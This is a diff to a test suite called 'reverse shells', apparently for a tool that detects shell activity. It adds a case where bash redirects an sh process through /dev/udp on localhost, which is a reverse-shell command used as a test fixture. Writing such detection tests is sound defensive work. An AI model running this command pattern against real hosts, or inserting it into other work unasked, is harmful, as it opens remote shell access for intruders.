@@ -194,6 +194,15 @@ describe.skipIf(!isRoot)('reverse shells', () => {
       (n) => n === 'bash',
     ],
     [
+      'sh on /dev/udp',
+      () => [
+        'bash',
+        '-c',
+        `exec 5<>/dev/udp/127.0.0.1/${port}; sh -c 'sleep 100; :' <&5 >&5 2>&1; :`,
+      ],
+      (n) => n === 'sh',
+    ],
+    [
       'python with a terminal',
       () => [
         python,
